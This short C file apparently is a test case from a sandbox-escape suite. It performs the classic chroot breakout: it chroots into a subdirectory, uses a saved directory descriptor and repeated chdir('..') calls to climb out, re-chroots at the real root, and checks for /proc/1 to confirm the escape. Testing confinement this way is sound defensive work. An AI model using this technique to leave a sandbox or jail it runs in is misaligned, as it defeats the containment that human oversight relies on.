#include "../attack.h"

int main(void) {
  take_job();
  mkdir("inner", 0700);
  int outer = open(".", O_RDONLY);
  if (chroot("inner") != 0) outcome(0, "chroot");
  if (fchdir(outer) != 0) outcome(0, "go back");
  for (int i = 0; i < 64; ++i)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) outcome(0, "chroot again");
  outcome(access("/proc/1", F_OK) == 0, "leave its root folder");
}
